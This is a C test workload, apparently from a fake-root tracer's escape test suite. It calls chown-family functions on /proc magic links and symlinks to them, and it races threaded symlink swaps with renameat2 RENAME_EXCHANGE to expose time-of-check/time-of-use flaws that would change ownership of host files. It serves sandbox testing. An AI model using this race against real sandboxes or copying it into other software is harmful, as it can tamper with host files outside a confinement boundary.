// pathrace ITERATIONS
//
// Against the tracer's path resolution (fake root): chown, lchown and
// fchownat of magic links (/proc/self/exe, /proc/1/exe, /proc/self/fd/1,
// /dev/stdout, ...), of symlinks to them, relative to /proc/self and
// /proc/1 directory fds, and of a symlink (and a directory) that other
// threads swap, in a tight loop, between a harmless file and /proc/1/exe
// (or /proc/self). An emulation that resolves such a path in its own
// context, or checks one object and acts on another, records the fake
// owner on a host file: the runtime's binary, the file our stdout goes to.
// The host checks those; here we only make the calls.
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>

#define UID 4242
static atomic_int stop;

static void *swapper(void *arg) {
    const char **pair = arg;
    while (!atomic_load(&stop))
        syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], 1 /* RENAME_EXCHANGE */);
    return NULL;
}

static int calls, succeeded;

static void all_chowns(int dirfd, const char *p) {
    int r[4];
    r[0] = dirfd == AT_FDCWD ? chown(p, UID, UID) : -1;
    r[1] = dirfd == AT_FDCWD ? lchown(p, UID, UID) : -1;
    r[2] = fchownat(dirfd, p, UID, UID, 0);
    r[3] = fchownat(dirfd, p, UID, UID, AT_SYMLINK_NOFOLLOW);
    for (int i = 0; i < 4; i++) {
        calls++;
        succeeded += r[i] == 0;
    }
}

int main(int argc, char **argv) {
    int iters = argc > 1 ? atoi(argv[1]) : 2000;
    // The workload's own image, through /proc/self/exe, is its own file.
    struct stat a, b;
    if (stat("/proc/self/exe", &a) == 0 && stat(argv[0], &b) == 0 &&
        (a.st_dev != b.st_dev || a.st_ino != b.st_ino))
        ESCAPE("stat-self-exe", getpid(), "stat /proc/self/exe is ino %lu, %s is %lu",
               (unsigned long)a.st_ino, argv[0], (unsigned long)b.st_ino);

    close(open("/tmp/harmless", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    close(open("/tmp/harmless2", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    mkdir("/tmp/d", 0755);
    close(open("/tmp/d/exe", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    symlink("/proc/self/exe", "/tmp/l-self-exe");
    symlink("/proc/1/exe", "/tmp/l-1-exe");
    symlink("/proc/self/fd/1", "/tmp/l-fd1");
    symlink("/tmp/l-self-exe", "/tmp/l-l-self-exe");
    symlink("/tmp/harmless", "/tmp/swap");
    symlink("/proc/1/exe", "/tmp/swap-b");
    symlink("/tmp/harmless2", "/tmp/swap2");
    symlink("/proc/self/fd/1", "/tmp/swap2-b");
    symlink("/proc/self", "/tmp/dswap-b");
    rename("/tmp/d", "/tmp/dswap");

    const char *direct[] = {"/proc/self/exe", "/proc/1/exe", "/proc/self/fd/1", "/dev/stdout",
                            "/proc/thread-self/fd/1", "/proc/self/root/proc/1/exe",
                            "/proc/self/cwd/../proc/1/exe", "/tmp/l-self-exe", "/tmp/l-1-exe",
                            "/tmp/l-fd1", "/tmp/l-l-self-exe", NULL};
    for (int i = 0; direct[i]; i++) all_chowns(AT_FDCWD, direct[i]);
    int self = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
    int one = open("/proc/1", O_PATH | O_DIRECTORY | O_CLOEXEC);
    all_chowns(self, "exe");
    all_chowns(self, "fd/1");
    all_chowns(one, "exe");
    int exe = open("/proc/self/exe", O_PATH | O_CLOEXEC);
    calls++;
    succeeded += fchownat(exe, "", UID, UID, AT_EMPTY_PATH) == 0;
    say("note magic links: %d of %d calls succeeded", succeeded, calls);

    const char *p1[] = {"/tmp/swap", "/tmp/swap-b"};
    const char *p2[] = {"/tmp/swap2", "/tmp/swap2-b"};
    const char *p3[] = {"/tmp/dswap", "/tmp/dswap-b"};
    pthread_t t[3];
    pthread_create(&t[0], NULL, swapper, p1);
    pthread_create(&t[1], NULL, swapper, p2);
    pthread_create(&t[2], NULL, swapper, p3);
    calls = succeeded = 0;
    for (int i = 0; i < iters; i++) {
        all_chowns(AT_FDCWD, "/tmp/swap");
        all_chowns(AT_FDCWD, "/tmp/swap2");
        all_chowns(AT_FDCWD, "/tmp/dswap/exe");
    }
    atomic_store(&stop, 1);
    for (int i = 0; i < 3; i++) pthread_join(t[i], NULL);
    say("note swapped paths: %d of %d calls succeeded", succeeded, calls);
    // The race was run: the harmless files got the fake owner.
    if (stat("/tmp/harmless", &a) == 0) say("note /tmp/harmless owner %u:%u", a.st_uid, a.st_gid);
    say("done");
    return 0;
}
